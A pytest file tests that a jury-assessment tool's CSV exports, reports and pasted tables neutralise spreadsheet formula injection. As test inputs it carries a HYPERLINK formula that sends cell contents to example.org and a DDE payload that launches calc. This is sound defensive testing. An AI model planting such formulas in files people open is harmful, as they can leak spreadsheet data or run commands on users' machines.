"""CSV that no spreadsheet runs: every command, every table of a report, the ZIPs of participants, pictures."""

import csv
import io
import math
import re
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from click.testing import CliRunner
from small import small_collection

from jurybox import results
from jurybox.cli.commands import Jurybox
from jurybox.collection.file import open_reading, open_writing
from jurybox.collection.own_schemes import scheme_of_text
from jurybox.csv_files import csv_of_rows, guard, unguard
from jurybox.figures import Figure, csv_of
from jurybox.formats.registry import FORMATS
from jurybox.reports.contents import collection_report
from jurybox.reports.source import ReportChoices, source_of
from jurybox.results import writing
from jurybox.results.frame import make_frame

LINK = '=HYPERLINK("http://example.org?"&A1)'
HOSTILE = (LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "''=1", "-x,y", "=a\nb")
RUNS = (LINK, "@SUM(A1)")
COMMANDS = (
    ("score", "--measure", "accuracy", "--measure", "F1"),
    ("score", "--bounds"),
    ("agreement", "--draws", "0"),
    ("agreement", "--by", "assessor", "--draws", "0"),
    ("assessors",),
    ("compare", LINK, "@SUM(A1)", "--draws", "10"),
    ("disagreements",),
    ("disagreements", "--by", "answer"),
    ("labels",),
    ("power", "--measure", "accuracy"),
    ("setup",),
)


def runs_as_formula(cell: str) -> bool:
    is_number = re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"} and not is_number


def formulas_in(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if runs_as_formula(cell)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A collection whose names are formulas: runs, teams, assessors, questions, answers, its own."""
    labels = [(who, at, "correct" if (at + who) % 3 else "incorrect") for who in (0, 1) for at in range(12)]
    path = tmp_path_factory.mktemp("hostile") / "h.jury"
    small_collection(path, assessors=("=A1", "@Ben"), runs=RUNS, labels=labels)
    with closing(open_writing(path)) as db:
        db.execute("UPDATE run SET team = '=' || name")
        db.execute("UPDATE question SET text = '=1+' || id, category = '@c'")
        db.execute("UPDATE local SET value = '=name' WHERE name = 'name'")
    return path


@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: " ".join(words[:3]))
def test_a_command_prints_no_formula(hostile: Path, words: tuple[str, ...]) -> None:
    done = CliRunner().invoke(Jurybox("jurybox"), [words[0], str(hostile), *words[1:], "--format", "csv"])
    assert done.exit_code == 0, done.output
    assert len(done.stdout.splitlines()) > 1
    assert formulas_in(done.stdout) == []


def drawn(figure: Figure, form: str) -> bytes:
    return f"{form} {csv_of(figure)}".encode()


def tables_of(files: dict[str, bytes]) -> Iterator[tuple[str, str]]:
    for name, content in files.items():
        if name.endswith(".csv"):
            yield name, content.decode()
        elif name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(content)) as archive:
                yield from ((f"{name}/{one}", archive.read(one).decode()) for one in archive.namelist() if "csv" in one)


def test_no_table_of_a_report_or_of_a_participant_has_a_formula(hostile: Path) -> None:
    with results.opened(hostile) as state:
        files = collection_report(source_of(state, results.scoreboard(state)), drawn, ReportChoices(draws=5))
    tables = dict(tables_of(files))
    assert len(tables) > 10
    assert any(".zip/" in name for name in tables)
    assert any(guard(LINK) in cells for text in tables.values() for cells in csv.reader(io.StringIO(text, newline="")))
    assert {name: found for name, text in tables.items() if (found := formulas_in(text))} == {}


def test_texts_are_guarded_and_numbers_stay_numbers() -> None:
    rows = [("=h", "n"), *((text, -0.5) for text in HOSTILE), ("-12", -3), (None, math.nan), ("+.5e-3", True)]
    read = list(csv.reader(io.StringIO(csv_of_rows(rows), newline="")))
    assert not any(runs_as_formula(cell) for row in read for cell in row)
    assert [unguard(row[0]) for row in read] == ["=h", *HOSTILE, "-12", "", "+.5e-3"]
    assert [row[1] for row in read[1:]] == [*["-0.5"] * len(HOSTILE), "-3", "", "True"]
    assert "\r" not in csv_of_rows([("a", "b"), (1, 2)])


def test_what_is_pasted_is_no_formula() -> None:
    frame = make_frame("t", "t", ("run", "n"), [(text, -0.25) for text in HOSTILE])
    for line in writing.spreadsheet(frame).split("\n")[1:]:
        text, number = line.split("\t")
        assert not runs_as_formula(text)
        assert float(number) == -0.25


@pytest.mark.parametrize(
    "form", [one.name for one in FORMATS.values() if one.write and one.example[0].endswith(".csv")]
)
def test_an_exported_csv_has_no_formula_and_is_read_back(form: str, tmp_path: Path) -> None:
    source = tmp_path / "s.jury"
    program, words = Jurybox("jurybox"), CliRunner()
    assert words.invoke(program, ["new", str(source)]).exit_code == 0
    tables = tmp_path / "tables"
    tables.mkdir()
    (tables / "questions.csv").write_text("question,kind,text\n'=q1,ranked,'=1+1\n", encoding="utf-8")
    (tables / "answers.csv").write_text("question,answer,text\n'=q1,'@a1,'-x\n'=q1,a2,y\n", encoding="utf-8")
    (tables / "responses.csv").write_text(
        "run,question,rank,answer\nT-1,'=q1,1,'@a1\nT-1,'=q1,2,a2\n", encoding="utf-8"
    )
    done = words.invoke(program, ["import", str(source), str(tables)])
    assert done.exit_code == 0, done.output
    out = tmp_path / "out"
    done = words.invoke(program, ["export", str(source), "--as", form, "-o", str(out)])
    assert done.exit_code == 0, done.output
    written = list(out.rglob("*.csv"))
    assert written
    for path in written:
        assert formulas_in(path.read_bytes().decode()) == []
    if form != "tables":
        (tables / "responses.csv").unlink()
    again = tmp_path / "again.jury"
    assert words.invoke(program, ["new", str(again)]).exit_code == 0
    for part in ([tables], written) if form != "tables" else ([out],):
        done = words.invoke(program, ["import", str(again), *map(str, part)])
        assert done.exit_code == 0, done.output
    query = (
        "SELECT q.name, a.name FROM response r JOIN question q ON q.id = r.question JOIN answer a ON a.id = r.answer"
    )
    with closing(open_reading(again)) as db:
        assert sorted(db.execute(query)) == [("=q1", "@a1"), ("=q1", "a2")]


def test_a_label_scheme_is_read_without_the_apostrophe(tmp_path: Path) -> None:
    path = tmp_path / "marks.csv"
    rows = csv_of_rows([("label", "name", "grade"), ("good", "+ good", 1), ("bad", "- bad", 0)])
    path.write_text(rows, encoding="utf-8")
    assert [one.name for one in scheme_of_text(str(path), "ranked").labels] == ["+ good", "- bad"]
